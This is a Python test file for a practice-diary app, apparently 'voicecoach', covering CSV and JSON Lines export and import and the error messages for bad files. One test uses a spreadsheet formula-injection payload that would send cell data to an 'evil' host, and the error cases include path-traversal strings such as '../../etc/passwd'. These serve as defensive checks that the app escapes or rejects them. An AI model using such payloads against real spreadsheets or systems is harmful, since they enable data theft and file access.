"""The diary as a table and as JSON Lines: all of it comes back, formulas stay words, and what is wrong is named with its line."""

from __future__ import annotations

import csv
import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.practice.rig import Home
from tests.practice.test_diary import entry_of
from voicecoach.errors import StateError
from voicecoach.practice.diary import new_entry
from voicecoach.practice.diary_files import FORMATS, diary_text, read_diary_file
from voicecoach.practice.entries import Details, HurtEntry, NewEntry, SetEntry

texts = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), min_size=1, max_size=20
) | st.sampled_from(["=1+1", "'=1", "''", "-1", "@x", "\tx", 'a;b,c"d', "two\nlines", "two\r\nlines"])
ids = st.sampled_from(["bridge", "plank", "bird-dog"])
scales = st.none() | st.integers(0, 10)
sides = st.none() | st.sampled_from(["left", "right", "alternate"])
counts = st.none() | st.integers(0, 999)
lengths = st.none() | st.floats(0, 999)
sets = st.builds(
    SetEntry,
    ids,
    counts,
    sides,
    counts,
    lengths,
    counts,
    st.none() | texts.filter(str.strip),
    scales,
    scales,
    st.booleans(),
)
entries = st.builds(
    NewEntry,
    routine=ids,
    title=texts.filter(str.strip),
    began=st.datetimes(
        datetime.datetime(1900, 1, 1), datetime.datetime(2100, 1, 1), timezones=st.just(datetime.UTC)
    ),
    day=st.dates(datetime.date(1900, 1, 1), datetime.date(2100, 1, 1)),
    seconds=st.floats(0, 86_400),
    finished=st.booleans(),
    level=st.none() | st.floats(0, 1),
    pain_before=scales,
    pain_after=scales,
    effort=scales,
    note=texts.filter(str.strip) | st.just(""),
    details=st.builds(
        Details,
        sets=st.lists(sets, max_size=3).map(tuple),
        skipped=st.lists(ids, max_size=2).map(tuple),
        hurt=st.lists(st.builds(HurtEntry, ids, counts, sides, counts, lengths), max_size=2).map(tuple),
        swapped=st.lists(st.tuples(ids, ids), max_size=2).map(tuple),
    ),
)


@pytest.mark.hypothesis
@pytest.mark.parametrize("form", FORMATS)
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entry=entries)
def test_all_of_it_comes_back(form: str, entry: NewEntry, tmp_path_factory: pytest.TempPathFactory) -> None:
    home = Home(tmp_path_factory.mktemp("home"))
    with home.diary() as diary:
        made = diary.add(entry)
        text = "".join(diary_text(diary, form))
    file = home.folder / f"diary.{form}"
    file.write_bytes(text.encode())
    ((name, read),) = read_diary_file(file)
    assert (name, read) == (made.name, entry)


def test_a_formula_in_a_table_is_a_word(tmp_path: Path) -> None:
    home = Home(tmp_path)
    evil = '=HYPERLINK("http://evil/?"&A1)'
    with home.diary() as diary:
        diary.add(entry_of(title="+1", note=evil, details=Details(
            sets=(SetEntry("bridge", load="@SUM(1)"),), skipped=(), hurt=(), swapped=())))  # fmt: skip
        text = "".join(diary_text(diary, "csv"))
    rows = list(csv.DictReader(text.splitlines()))
    assert (rows[0]["title"], rows[0]["note"], rows[0]["load"]) == ("'+1", f"'{evil}", "'@SUM(1)")
    assert not [cell for cell in rows[0].values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def read(tmp_path: Path, data: str | bytes) -> list[tuple[str, NewEntry]]:
    file = tmp_path / "in.csv"
    file.write_bytes(data if isinstance(data, bytes) else data.encode())
    return read_diary_file(file)


def test_a_table_of_ones_own_needs_two_columns_and_is_read_once(tmp_path: Path) -> None:
    text = (
        "Day;Routine;Exercise;Reps;Pain_after;Minutes\n2026-01-31;Walk;;;3;12,5\n"
        "2026-02-01;Gym;squat;10;\n2026-02-01;Gym;squat;8;\n"
    )
    found = read(tmp_path, "\ufeff" + text)
    assert [(one.routine, one.title, str(one.day), one.pain_after) for _, one in found] == [
        ("Walk", "Walk", "2026-01-31", 3),
        ("Gym", "Gym", "2026-02-01", None),
    ]
    assert [one.seconds for _, one in found] == [750, 0]
    assert [one.reps for one in found[1][1].details.sets] == [10, 8]
    assert [name for name, _ in read(tmp_path, text)] == [name for name, _ in found]


HEAD = "day,routine,exercise,reps,pain after,finished,what\n"
GOOD = '{"format":1,"session":"a","routine":"r","title":"t","began":"2026-01-01T07:00:00+00:00","day":"2026-01-01"}'


@pytest.mark.parametrize(
    ("data", "line", "said"),
    [
        ("", 0, "this file is empty"),
        (b"\xff\xfe\x00", 1, "not UTF-8"),
        ("a,b\n1,2\n", 1, "of which “day” and “routine” are needed"),
        ("day,routine,pain aftr\n", 1, "is not a column of a diary; did you mean “pain after”"),
        ("day,routine,weather\n", 1, "is not a column of a diary; take it out"),
        (HEAD + "2026-01-32,r\n", 2, "a day is written as 2026-01-31"),
        (HEAD + "2026-01-31,r\n,r\n", 3, "needs a day"),
        (HEAD + "2026-01-31,r,bridge,ten\n", 2, "“reps” takes a number, not “ten”"),
        (HEAD + "2026-01-31,r,bridge,\uff11\n", 2, "takes a number"),
        (HEAD + "2026-01-31,r,bridge,1_0\n", 2, "takes a number"),
        (HEAD + f"2026-01-31,r,bridge,{'9' * 5000}\n", 2, "takes a number"),
        (HEAD + "2026-01-31,r,bridge,1,11\n", 2, "at pain_after"),
        (HEAD + "2026-01-31,r,bridge,1,1,maybe\n", 2, "takes yes or no"),
        (HEAD + "2026-01-31,r,bridge,1,1,yes,tried\n", 2, "“tried” is not one of done, left"),
        (HEAD + "2026-01-31,r,,,,,hurt\n", 2, "needs an exercise"),
        (HEAD + "2026-01-31,r,../../etc/passwd,1\n", 2, "at sets.0.exercise"),
        (HEAD + "2026-01-31,r,bridge,1,1,yes,done,more\n", 2, "more cells than there are columns"),
        (HEAD + f"2026-01-31,{'x' * 30_000}\n", 2, "the cell “routine” has 30,000 characters"),
        (HEAD + f'2026-01-31,"{"x" * 200_000}"\n', 2, "this is not a table: field larger"),
        (HEAD + '2026-01-31,"r" x\n', 2, "this is not a table"),
        (HEAD + '2026-01-31,"never closed\n', 2, "this is not a table"),
        (GOOD + "\n{\n", 2, "not JSON"),
        (GOOD.replace("1,", "2,", 1), 1, "a newer version of voicecoach wrote this"),
        (GOOD.replace('"a"', '"../a"'), 1, "at session"),
        (GOOD.replace('"t"', "7"), 1, "at title"),
        (GOOD.replace('"day"', '"dya"'), 1, "at d"),
        (GOOD[:-1] + ',"level":NaN}', 1, "not JSON"),
        (GOOD[:-1] + ',"note":"\\ud800"}', 1, "not JSON"),
        (GOOD.replace("+00:00", ""), 1, "needs its offset"),
        (GOOD.replace('"2026-01-01"', '"2026-13-01"'), 1, "month must be in 1..12"),
        ("{" * 100_000, 1, "not JSON"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_named_with_its_line(
    tmp_path: Path, data: str | bytes, line: int, said: str
) -> None:
    with pytest.raises(StateError) as caught:
        read(tmp_path, data)
    file = tmp_path / "in.csv"
    assert str(caught.value).startswith(f"{file}:{line}: " if line else f"{file}: ")
    assert said in str(caught.value)
    assert len(str(caught.value)) < 400


def test_all_of_a_file_is_added_or_nothing(tmp_path: Path) -> None:
    home = Home(tmp_path)
    new = [("a", entry_of()), ("b", entry_of())]
    with home.diary() as diary:
        assert diary.add_all(new, source="import") == (2, 0)
        assert diary.add_all(new, source="import") == (0, 0)
        diary.delete([1])
        assert diary.add_all([*new, ("c", entry_of())], source="import") == (1, 1)
        assert diary.add_all(new, source="import", deleted_too=True) == (1, 0)
        assert new_entry(diary.entry("a"), diary.details(diary.entry("a").number)) == new_entry(
            diary.entry("b"), diary.details(diary.entry("b").number)
        )

        def broken() -> object:
            yield "d", entry_of()
            raise ValueError("the rest of the file is gone")

        with pytest.raises(ValueError, match="is gone"):
            diary.add_all(broken(), source="import")  # type: ignore[arg-type]
    assert "d" not in home.names()
